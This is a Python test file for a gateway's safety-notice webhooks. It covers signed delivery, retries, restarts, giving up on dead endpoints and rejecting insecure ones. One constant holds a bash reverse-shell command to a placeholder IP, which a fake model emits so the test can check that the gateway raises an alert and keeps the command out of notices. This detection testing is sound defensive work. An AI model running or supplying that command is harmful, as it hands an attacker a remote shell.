"""Are safety notices signed as the public SDK checks them, sent until taken, and given up in the open?"""

import asyncio
import base64
import contextlib
import json
from collections.abc import AsyncGenerator, Callable
from pathlib import Path
from typing import Any

import openai
import pytest
from aiohttp import web
from openai.types.safety import SafetyAlert, SafetyCase

from fake_models import fake_models
from gateways import POLICY, Bench, rules_of, running
from veilig.app import cases
from veilig.app.access import Office
from veilig.app.notices import AGE_S_MAX, Outbox
from veilig.core.actor import Actor
from veilig.core.errors import UsageError
from veilig.core.ledger_event import Event
from veilig.core.policy_safeguards import Webhook
from veilig.monitor.ladder import Level
from veilig.server import safety_webhooks as webhooks
from veilig.server.safety_webhooks import Sender

pytestmark = pytest.mark.outside_gate
SECRET = "whsec_" + base64.b64encode(bytes(range(32))).decode()
SHELL = "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"
type Taken = list[tuple[dict[str, str], bytes]]


@contextlib.asynccontextmanager
async def endpoint(*statuses: int) -> AsyncGenerator[tuple[str, Taken]]:
    """Takes notices; answers with these statuses first, then 200."""
    taken: Taken = []

    async def take(request: web.Request) -> web.Response:
        taken.append((dict(request.headers), await request.read()))
        status = statuses[len(taken) - 1] if len(taken) <= len(statuses) else 200
        return web.Response(status=status, headers={"Location": "/else"} if status == 302 else {})

    app = web.Application()
    app.router.add_post("/hook", take)
    runner = web.AppRunner(app)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    try:
        yield f"http://127.0.0.1:{runner.addresses[0][1]}/hook", taken
    finally:
        await runner.cleanup()


def policy(url: str) -> str:
    return POLICY.replace(
        "  appeal_url:", f'  webhooks: [{{url: "{url}", secret_env: HOOK_SECRET}}]\n  appeal_url:'
    )


async def until(true: Callable[[], bool]) -> None:
    async with asyncio.timeout(60):
        while not true():
            await asyncio.sleep(0.05)


def unwrapped(taken: Taken) -> list[Any]:
    client = openai.OpenAI(api_key="none", webhook_secret=SECRET)
    return [client.webhooks.unwrap(body, headers) for headers, body in taken]


async def level(bench: Bench, wanted: Level) -> str:
    office = Office(bench.desk, bench.desk.rules, Actor("alice"), lambda text: text)
    return (await cases.set_level(office, "key:k-key-of-ann", wanted, 3600, "seen in the logs")).case


async def test_notices_are_repeated_until_taken_and_the_sdk_believes_them(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOOK_SECRET", SECRET)
    monkeypatch.setattr(webhooks, "RETRY_S", (0.0, 0.05, 0.05, 0.05))
    async with (
        endpoint(500, 302) as (url, taken),
        fake_models(command=SHELL) as fake,
        running(tmp_path, fake.url, policy=policy(url)) as bench,
    ):
        case = await level(bench, Level.THROTTLE)
        await until(lambda: len(bench.events("webhook.sent")) == 1)
        assert len({body for _, body in taken}) == 1, "the same notice, three times"
        assert [e["attempt"] for e in bench.events("webhook.failed")] == [1, 2]
        await level(bench, Level.SUSPEND)
        await level(bench, Level.OBSERVE)
        await until(lambda: len(bench.events("webhook.sent")) == 2)
        first, second = (e for e in unwrapped(taken[2:]))
        assert (first.type, second.type) == ("safety.warning_issued", "safety.deactivation_issued")
        assert first.data.id == second.data.id == case
        shown = await bench.ask(f"/v1/safety/cases/{case}", method="GET")
        assert SafetyCase.model_validate(shown.json).id == case
        stopped = await bench.ask("/v1/responses", {"model": "big", "input": "go"})
        assert stopped.error["code"] == "cyber_policy"
        await until(lambda: len(bench.events("webhook.sent")) == 4)
        alert, warned = sorted(unwrapped(taken[4:]), key=lambda e: e.type)
        assert (alert.type, warned.type) == ("safety.alert.created", "safety.warning_issued")
        await until(lambda: bool(bench.events("gateway.served")))  # a tenth of a second after it ended
        told = await bench.ask(f"/v1/safety/alerts/{alert.data.id}", method="GET")
        read = SafetyAlert.model_validate(told.json)
        assert (read.error_type, read.model) == ("potentially_unintended_data_transfer", "big")
        assert read.request_paused
        assert "dev/tcp" not in str(taken)
        assert url.rpartition("/")[2] not in json.dumps(bench.events("webhook.sent", "webhook.failed"))
        changed = (taken[0][0], taken[0][1].replace(b"warning", b"praised"))
        with pytest.raises(openai.InvalidWebhookSignatureError):
            unwrapped([changed])


async def test_a_restart_sends_what_was_not_taken_and_nothing_else(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOOK_SECRET", SECRET)
    async with endpoint(200, 503) as (url, taken):
        async with running(tmp_path, "http://127.0.0.1:9/v1", policy=policy(url)) as bench:
            await level(bench, Level.THROTTLE)
            await until(lambda: bool(bench.events("webhook.sent")))
            await level(bench, Level.SUSPEND)
            await until(lambda: bool(bench.events("webhook.failed")))
        async with running(tmp_path, "http://127.0.0.1:9/v1", policy=policy(url)) as bench:
            await until(lambda: len(bench.events("webhook.sent")) == 2)
    assert [e.type for e in unwrapped(taken)] == [
        "safety.warning_issued",
        "safety.deactivation_issued",
        "safety.deactivation_issued",
    ]


async def test_an_endpoint_that_is_gone_or_fails_for_days_is_given_up_and_that_is_said(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOOK_SECRET", SECRET)
    monkeypatch.setattr(webhooks, "RETRY_S", (0.0, 0.01))
    async with (
        endpoint(410, 500, 500) as (url, _),
        running(tmp_path, "http://127.0.0.1:9/v1", policy=policy(url)) as bench,
    ):
        await level(bench, Level.THROTTLE)
        await until(lambda: len(bench.events("webhook.failed")) == 1)
        await level(bench, Level.SUSPEND)
        await until(lambda: len(bench.events("webhook.failed")) == 3)
        assert [(e["attempt"], e["final"]) for e in bench.events("webhook.failed")] == [
            (1, True),
            (1, False),
            (2, True),
        ]


@pytest.mark.parametrize(
    ("url", "secret", "why"),
    [
        ("http://hooks.example/x", SECRET, "not encrypted"),
        ("https://hooks.example/x", "", "no signing secret"),
        ("https://hooks.example/x", "whsec_" + base64.b64encode(b"short").decode(), "no signing secret"),
        ("https://hooks.example/x", SECRET.removeprefix("whsec_"), "no signing secret"),
    ],
)
async def test_an_endpoint_that_is_not_safe_stops_the_start(
    tmp_path: Path, url: str, secret: str, why: str
) -> None:
    async with running(tmp_path, "http://127.0.0.1:9/v1") as bench:
        with pytest.raises(UsageError, match=why):
            Sender(bench.desk, (Webhook(url, "HOOK"),), {"HOOK": secret})
    assert rules_of(POLICY).gateway.webhooks == ()


def test_a_notice_older_than_three_days_is_history() -> None:
    box = Outbox(["a"])
    body: dict[str, Any] = {"case": "c1", "subject": "key:k", "owner": ""}
    box.apply([Event(1, "s", "case.opened", 1, 0, "b", 0, 1000, body, "", "")])
    assert len(box.due(1 + AGE_S_MAX)) == 1
    assert box.due(2 + AGE_S_MAX) == []
